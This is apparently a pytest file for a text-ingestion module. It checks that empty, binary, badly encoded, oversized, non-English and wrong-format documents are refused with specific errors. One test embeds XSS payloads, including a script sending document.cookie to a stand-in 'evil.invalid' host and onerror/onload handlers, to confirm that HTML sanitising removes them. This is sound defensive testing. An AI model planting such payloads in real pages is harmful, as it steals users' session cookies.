"""Each kind of bad input is refused with its own error class and a one-line message."""

import codecs
import io
import tracemalloc
from pathlib import Path

import pytest

from warlog.errors import (
    BinaryDocumentError,
    DocumentTooLargeError,
    EmptyDocumentError,
    EncodingError,
    InputError,
    LanguageError,
)
from warlog.ingest import make_document, read_document
from warlog.settings import Settings

FIXTURES = Path(__file__).parent / "fixtures" / "ingest"
SETTINGS = Settings()
ENGLISH = (FIXTURES / "plain.txt").read_text(encoding="utf-8")


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def refused(path: Path, error: type[InputError], settings: Settings = SETTINGS) -> str:
    with pytest.raises(error) as caught:
        read_document(path, settings=settings)
    message = str(caught.value)
    assert "\n" not in message
    assert str(path) in message
    return message


@pytest.mark.parametrize("data", [b"", b"   \n\t\r\n  "])
@pytest.mark.parametrize("name", ["empty.txt", "empty.html"])
def test_empty_file(tmp_path, data, name):
    assert "is empty" in refused(write(tmp_path / name, data), EmptyDocumentError)


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "PNG"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "JPEG"),
        (b"PK\x03\x04\x14\x00\x06\x00", "ZIP"),
        (b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "GZIP"),
        (b"Some text\x00with a NUL byte", "NUL"),
        (bytes(range(1, 32)) * 20, "control"),
    ],
)
def test_binary_file(tmp_path, data, what):
    assert what in refused(write(tmp_path / "data.txt", data), BinaryDocumentError)


def test_binary_text_given_to_make_document():
    with pytest.raises(BinaryDocumentError):
        make_document("abc\x00def", settings=SETTINGS)


def test_invalid_utf8_gives_the_byte_offset(tmp_path):
    data = ENGLISH.encode("utf-8")[:40] + b"\xe9t\xe9 " + ENGLISH.encode("utf-8")[40:]
    message = refused(write(tmp_path / "latin1.txt", data), EncodingError)
    assert "offset 40" in message
    assert "0xE9" in message


def test_html_meta_charset_decodes_legacy_bytes(tmp_path):
    html = (FIXTURES / "article.html").read_text(encoding="utf-8")
    html = html.replace('charset="utf-8"', 'charset="windows-1252"').replace("Lindqvist", "Lindqvïst")
    document = read_document(write(tmp_path / "legacy.html", html.encode("cp1252")), settings=SETTINGS)
    assert document.author == "Maria Lindqvïst"


@pytest.mark.parametrize(
    ("bom", "codec"),
    [(codecs.BOM_UTF8, "utf-8"), (codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")],
)
def test_byte_order_mark_decides_the_encoding(tmp_path, bom, codec):
    document = read_document(write(tmp_path / "bom.txt", bom + ENGLISH.encode(codec)), settings=SETTINGS)
    assert document.text == ENGLISH.strip()


def test_50_mb_file_is_refused_from_its_size_without_reading_it(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as file:
        line = b"The shelling went on for a week and the town was emptied of its people.\n"
        for _ in range(50_000_000 // len(line) + 1):
            file.write(line)
    tracemalloc.start()
    try:
        message = refused(path, DocumentTooLargeError)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 1_000_000  # the size decides, not the content: nothing of the file is read
    assert "max_chars" in message


def test_text_over_max_chars_is_refused(tmp_path):
    settings = Settings(max_chars=100)
    refused(write(tmp_path / "long.txt", ENGLISH.encode()), DocumentTooLargeError, settings)
    with pytest.raises(DocumentTooLargeError):
        make_document(ENGLISH, settings=settings)


def test_html_of_only_scripts_is_empty(tmp_path):
    refused(FIXTURES / "scripts.html", EmptyDocumentError)


PAYLOADS = """
<script>fetch("https://evil.invalid/exfil?c=" + document.cookie)</script>
<p><img src="x" onerror="alert('onerror payload')"><svg onload="alert('svg payload')"></svg></p>
<iframe src="javascript:alert('iframe payload')"></iframe>
<noscript>Please enable javascript to read this article.</noscript>
"""


def test_scripts_and_event_handlers_never_reach_the_text(tmp_path):
    article = (FIXTURES / "article.html").read_text(encoding="utf-8")
    path = tmp_path / "mixed.html"
    path.write_text(article.replace("</h1>", "</h1>" + PAYLOADS), encoding="utf-8")
    document = read_document(path, settings=SETTINGS)
    assert document.text.startswith("Talks on a ceasefire")
    for leak in ("alert", "payload", "cookie", "evil", "javascript", "do-not-keep-this", "font-family"):
        assert leak not in document.text.lower()


@pytest.mark.parametrize(("name", "language"), [("french.txt", "French"), ("german.txt", "German")])
def test_latin_script_foreign_language(name, language):
    assert f"reads like {language}" in refused(FIXTURES / name, LanguageError)


def test_arabic():
    assert "Arabic script" in refused(FIXTURES / "arabic.txt", LanguageError)


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        (
            "Las fuerzas del régimen sirio recuperaron el sábado el control de varias aldeas al norte de "
            "Alepo, tras dos días de combates con los rebeldes, según una organización no gubernamental.",
            "Spanish",
        ),
        (
            "Сирийская армия в субботу восстановила контроль над несколькими деревнями к северу от Алеппо "
            "после двух дней боев с повстанцами, сообщает правозащитная организация.",
            "Cyrillic",
        ),
        (
            "叙利亚政府军周六在阿勒颇北部与反对派武装激战两天后，重新控制了数个村庄。"
            "据人权观察组织称，俄罗斯战机对该地区进行了数十次空袭。",
            "CJK",
        ),
    ],
)
def test_other_languages(text, hint):
    with pytest.raises(LanguageError, match=hint):
        make_document(text, settings=SETTINGS)


@pytest.mark.parametrize(
    "text",
    [
        "Russian jets strike rebel positions near Aleppo as Islamic State fighters seize six villages north",
        "Syria: Assad forces retake Palmyra from Islamic State militants after weeks of heavy fighting, monitors say",
        "U.S. Says Syria Is Buying Oil From Islamic State\nU.S. launches secret drone campaign to hunt "
        "Islamic State leaders in Syria",
        "Bonjour à tous",  # too short to judge
        "Ataque en Alepo",
    ],
)
def test_english_headlines_and_short_texts_are_accepted(text):
    assert make_document(text, settings=SETTINGS).language == "en"


def test_jsonl_and_feeds_are_for_iter_documents(tmp_path):
    refused(write(tmp_path / "batch.jsonl", b'{"text": "x"}\n'), InputError)
    feed = b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title></channel></rss>'
    assert "iter_documents" in refused(write(tmp_path / "feed.xml", feed), InputError)


def test_missing_file(tmp_path):
    assert "no such file" in refused(tmp_path / "nowhere.txt", InputError)


def test_stdin_text_and_bytes():
    assert read_document("-", stdin=io.StringIO(ENGLISH), settings=SETTINGS).text == ENGLISH.strip()
    stream = io.TextIOWrapper(io.BytesIO(b"\x89PNG\r\n\x1a\n\x00\x00"), encoding="utf-8")
    with pytest.raises(BinaryDocumentError, match="stdin"):
        read_document("-", stdin=stream, settings=SETTINGS)
